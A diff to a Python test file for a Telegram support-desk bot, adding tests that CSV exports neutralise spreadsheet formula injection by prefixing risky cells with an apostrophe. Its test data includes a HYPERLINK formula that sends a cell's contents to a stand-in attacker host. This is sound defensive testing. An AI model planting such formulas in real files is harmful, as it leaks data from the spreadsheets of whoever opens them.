@@ -1,10 +1,13 @@
 """Telegram's edges of access: commands in captions, staff commands typed in a customer's chat, `/new`
 where no customer is bound, and messages sent on behalf of a chat (anonymous admins, channels)."""
 
+import csv
+import io
+
 import pytest
 
 import telemetry
-from domain import customers, people
+from domain import customers, people, reports
 from domain.access import COMMANDS, Where
 from domain.errors import DeskError
 from domain.models import Customer, Incident, IncidentEvent, IncidentMessage, Invitation, UnboundMessage
@@ -244,3 +247,28 @@ async def test_an_anonymous_admin_in_an_unbound_group_is_kept_in_the_inbox(two):
     kept = await UnboundMessage.get(chat_id=UNBOUND)
     assert (kept.author, kept.user_id) == ("Somebody's group", UNBOUND)
     assert not await IncidentEvent.filter(incident__chat_id=UNBOUND).exists()
+
+
+# ---- 5. CSV cells are never formulas ----------------------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+7 495 000-00-00 call", "-2+3 is broken",
+            "@SUM(A1:A9) fails"]
+
+
+async def test_export_neutralises_cells_that_a_spreadsheet_would_run(two):
+    for title in FORMULAS:
+        await two.say(GROUP, customer, f"/new {title}")
+    mark = two.stub.mark()
+    await two.say(LEAD, lead, "/export ACME 2026-03-01 2026-03-31")
+    (call,) = two.stub.find("sendDocument", mark)
+    attached = call.params["document"].removeprefix("attach://")
+    rows = list(csv.DictReader(io.StringIO(call.params["files"][attached].decode("utf-8"))))
+    assert [r["title"] for r in rows] == ["Acme printer is on fire"] + ["'" + title for title in FORMULAS]
+    assert [r["key"] for r in rows] == ["ACME-1", "ACME-2", "ACME-3", "ACME-4", "ACME-5"]
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("plain", "plain"), ("a=b", "a=b"), (42, 42), ("", ""),
+])
+def test_csv_cell(value, written):
+    assert reports.csv_cell(value) == written
